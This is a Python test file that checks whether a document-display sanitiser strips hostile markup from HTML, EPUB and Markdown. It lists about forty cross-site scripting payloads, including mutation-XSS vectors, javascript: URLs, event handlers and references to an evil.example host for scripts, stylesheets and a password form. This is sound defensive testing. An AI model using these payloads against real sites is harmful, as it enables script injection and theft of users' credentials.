"""Hostile markup: nothing of it is in a display form, whatever parser reads it."""

from pathlib import Path

import pytest

from chalicelib.extraction.display import make, render, sanitize
from chalicelib.extraction.display.model import CloseTag, Event, OpenTag, ShownFormula, TextRun, UnreadText
from chalicelib.extraction.model import BlockKind, BlockSpan, ChapterSpan, ExtractedText
from tests.support.display_forms import Shown, forbidden, show
from tests.support.growth import Meter
from tests.support.media_files import EPUB
from tests.support.structured_documents import epub, xhtml

# Kinds of the OWASP and PortSwigger cheat sheets, and of published mutation XSS.
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)' alt='A picture of it'>",
    "<img srcset='//evil.example/1.png 1x, //evil.example/2.png 2x' alt='A picture of it'>",
    "<picture><source srcset='//evil.example/x'><img src='//evil.example/y' alt='A picture of it'></picture>",
    "<svg onload=alert(1)><script>alert(1)</script><text>label</text></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>go</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)' onclick=alert(1)>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x</noscript>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='data:text/html,x'></object><embed src='//evil.example'>",
    "<a href='javascript:alert(1)'>go</a><a href='java&#9;script:alert(1)'>go</a><a href=' &#1;javascript:alert(1)'>go</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>go</a><a href='vbscript:x'>go</a><a href='//evil.example' ping='//evil'>go</a>",
    "<a href='https://evil.example/' target='_blank' onmouseover='alert(1)' style='position:fixed;inset:0'>go</a>",
    "<p style='background:url(//evil.example/x)' class='fixed' id='root' onclick='x()' data-start='0'>x</p>",
    "<style>@import '//evil.example/x.css'; p { background: url(//evil.example) }</style><link rel=stylesheet href=//evil>",
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details><marquee onstart=alert(1)>z</marquee>",
    "<video poster='//evil.example' onerror=alert(1)><source src=x onerror=alert(1)></video><audio src=//evil.example autoplay>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><keygen autofocus>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<table><td background='//evil.example' colspan='99999999' rowspan='javascript:1'>a<tr><td>b</table>",
    "<ol start='x' type='javascript:1'><li value='3' onclick='x()'>a</li></ol><p lang='x\" onclick=\"alert(1)'>b</p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]><!--><img src=x onerror=alert(1)>--><?xml <img src=x onerror=alert(1)>?>",
    "<span data-start='7' data-end='9' data-note='x' data-image='../../x'>x</span><aside data-note-id='<x>'>y</aside>",
    "<ruby><rt><svg onload=alert(1)></rt></ruby><a href='#n'>1</a><p id=n>1. <img src=x onerror=alert(1)></p>",
    "<dialog open><p>x</p></dialog><portal src='//evil.example'></portal><slot onslotchange=alert(1)></slot>",
)


def assert_harmless(shown: Shown) -> None:
    assert forbidden(shown) == []
    assert all(shown.text.text[start : start + len(run)] == run for start, run in shown.runs())


@pytest.mark.parametrize("markup", HOSTILE, ids=lambda markup: markup[:40])
def test_hostile_markup_is_not_in_the_display_form(markup: str, tmp_path: Path) -> None:
    assert_harmless(
        show(tmp_path, f"<html><body><p>Before.</p>{markup}<p>Behind.</p></body></html>".encode(), "text/html")
    )
    assert_harmless(show(tmp_path, epub(xhtml(f"<p>Before.</p>{markup}<p>Behind.</p>")), EPUB))
    assert_harmless(show(tmp_path, f"Before.\n\n{markup}\n\nBehind.".encode(), "text/markdown"))


@pytest.mark.parametrize("markup", HOSTILE, ids=lambda markup: markup[:40])
def test_the_sanitiser_alone_leaves_nothing_of_it(markup: str) -> None:
    """A child that a file has taken over writes any structure: only the sanitiser is between it and the page."""
    text = ExtractedText("", (), (), "en", 0, None)
    assert forbidden(Shown(text, [], [sanitize.clean(markup)])) == []
    assert sanitize.clean(sanitize.clean(markup)) == sanitize.clean(markup)


def test_a_hostile_structure_is_escaped_and_sanitised() -> None:
    attack = '"><img src=x onerror=alert(1)>'
    events: list[Event] = [
        OpenTag("a", {"href": f"javascript:{attack}", "onclick": "x()", "data-note": attack}),
        TextRun(0, 3),
        CloseTag("a"),
        UnreadText(attack),
        ShownFormula(f"<math><mtext>{attack}<script>1</script></mtext></math>", "", "", 4, 5),
    ]
    blocks = [BlockSpan(BlockKind.PARAGRAPH, 0, 5)]
    (draft,) = render.render(events, "One 2", blocks, [], {})
    markup = sanitize.clean(draft.html())
    assert forbidden(Shown(ExtractedText("One 2", (), (), "en", 2, None), [], [markup])) == []
    assert sanitize.has_runs(markup, "One 2", draft.runs)


def test_the_time_grows_with_the_length_of_the_document(tmp_path: Path) -> None:
    def build(count: int) -> ExtractedText:
        line = "Word after word, and <so> on & on. " * 8
        blocks = tuple(
            BlockSpan(BlockKind.LIST_ITEM, n * (len(line) + 2), n * (len(line) + 2) + len(line)) for n in range(count)
        )
        chapters = tuple(ChapterSpan("x", blocks[n].start, blocks[n].end) for n in range(0, count, 10))
        return ExtractedText("\n\n".join([line] * count), (), chapters, "en", 0, None, blocks)

    (tmp_path / "structure").touch()

    def work(text: ExtractedText) -> None:
        assert make._write(tmp_path / "structure", tmp_path / "display", text, {}, [])

    growth = Meter(work, [250, 500, 1_000], noise_s=0.02).measure(build)
    assert not growth.is_superlinear, str(growth)
